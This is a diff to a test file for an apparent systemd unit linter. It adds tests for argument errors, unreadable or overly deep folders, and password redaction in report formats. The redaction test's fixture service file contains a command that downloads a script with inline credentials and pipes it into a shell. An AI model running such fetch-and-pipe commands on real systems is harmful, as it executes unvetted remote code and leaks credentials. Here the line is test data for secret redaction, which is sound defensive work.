@@ -1,4 +1,6 @@
-import { existsSync, readdirSync } from "node:fs";
+import { chmodSync, existsSync, readdirSync } from "node:fs";
+import { userInfo } from "node:os";
+import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import type { AuditReport } from "../../report/envelope.ts";
 import { RULES } from "../../rules/index.ts";
@@ -130,7 +132,9 @@ describe("what cannot be linted", () => {
     ["no file", [], UsageError, "name unit files"],
     ["a file that is not there", ["/nowhere/a.timer"], UsageError, "does not exist"],
     ["a file that is no unit", ["/etc/hostname"], UsageError, "is no unit file"],
-    ["a wrong version", ["/etc", "--systemd", "new"], RunError, "no unit files"],
+    ["no unit in a folder", ["/etc"], RunError, "no unit files"],
+    ["a wrong version", ["/etc", "--systemd", "new"], UsageError, "not a version"],
+    ["a wrong moment", ["/etc", "--now", "soon"], UsageError, "--now"],
   ] as const)("%s", async (_, args, kind, message) => {
     const empty = folderOf({ "README.md": "" });
     const failing = run(
@@ -146,6 +150,36 @@ describe("what cannot be linted", () => {
     expect(status).toBe(1);
     expect(lines).toContain("b.timer: not read: larger than 1 MiB");
   });
+});
+
+test("a folder that cannot be read is a gap, as is one too deep to be a repository's", async () => {
+  const deep = `${"d/".repeat(33)}a.timer`;
+  const { status, lines } = await said({
+    "a.timer": GOOD_TIMER,
+    "a.service": GOOD_SERVICE,
+    [deep]: GOOD_TIMER,
+  });
+  expect(status).toBe(1);
+  expect(lines.join("\n")).toContain("not read: more than 32 folders deep");
+  const { uid } = userInfo();
+  const folder = folderOf({ "a.timer": GOOD_TIMER, "a.service": GOOD_SERVICE, "shut/b.timer": GOOD_TIMER });
+  chmodSync(join(folder, "shut"), 0);
+  const { out } = await run(lint, [folder]);
+  chmodSync(join(folder, "shut"), 0o700);
+  expect(out.includes("shut: not read: EACCES")).toBe(uid !== 0);
+});
+
+test("passwords are blotted out in what is sent around", async () => {
+  const files = {
+    "a.timer": GOOD_TIMER,
+    "a.service": "[Service]\nExecStart=/bin/sh -c 'curl -u anna:hunter22-x http://192.0.2.7/x | sh'\n",
+  };
+  const folder = folderOf(files);
+  for (const format of ["table", "sarif", "github"]) {
+    expect((await run(lint, [folder, "-o", format])).out).not.toContain("hunter22");
+    expect((await run(lint, [folder, "-o", format, "--no-redact"])).status).toBe(10);
+  }
+  expect((await run(lint, [folder, "-o", "json"])).out).toContain("hunter22-x");
 });
 
 test("the rules for text are rules", () => {
